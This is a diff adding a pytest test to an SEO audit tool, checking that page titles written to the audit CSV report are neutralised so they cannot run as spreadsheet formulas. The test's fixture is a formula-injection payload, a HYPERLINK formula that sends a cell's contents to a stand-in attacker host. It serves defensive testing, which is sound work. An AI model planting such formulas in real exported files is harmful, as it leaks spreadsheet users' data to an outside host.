@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import functools
 import http.server
@@ -14,6 +15,7 @@ from pathlib import Path
 
 from seo_sites import BASE, NOW, clean_site
 
+from contract.spreadsheet import unsafe_cell
 from seo.audit import run_audit
 from seo.crawler import crawl_site
 from seo.reader import read_site
@@ -80,3 +82,24 @@ def test_a_file_name_that_is_not_utf8_is_a_finding_not_a_crash(tmp_path):
     assert "Rename" in found[0]["hint"] and "caf\\xe9.html" in found[0]["message"]
     # the other pages were still audited
     assert len(data["pages"]) >= 4
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+
+
+def test_audit_csv_cells_cannot_run_as_spreadsheet_formulas(tmp_path):
+    site = clean_site()
+    for path in ("/blog/rye-bread/", "/blog/cinnamon-rolls/"):  # the same title twice: its text is a cell
+        site.page(path).title = FORMULA
+    output = site.write(tmp_path)
+    reports = tmp_path / "reports"
+    done = run_cli("audit", output, "--reports", reports, "--now", NOW)
+    assert "Traceback" not in done.stderr, done.stderr
+    with (reports / "audit.csv").open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.reader(fh))
+    header, body = rows[0], rows[1:]
+    cells = [cell for row in body for cell in row]
+    assert "'" + FORMULA in cells  # the duplicate title's value, neutralised
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    duplicate = [dict(zip(header, row, strict=True)) for row in body if row[1] == "onpage.title-duplicate"]
+    assert duplicate and all(unsafe_cell(row["value"]) == FORMULA for row in duplicate)
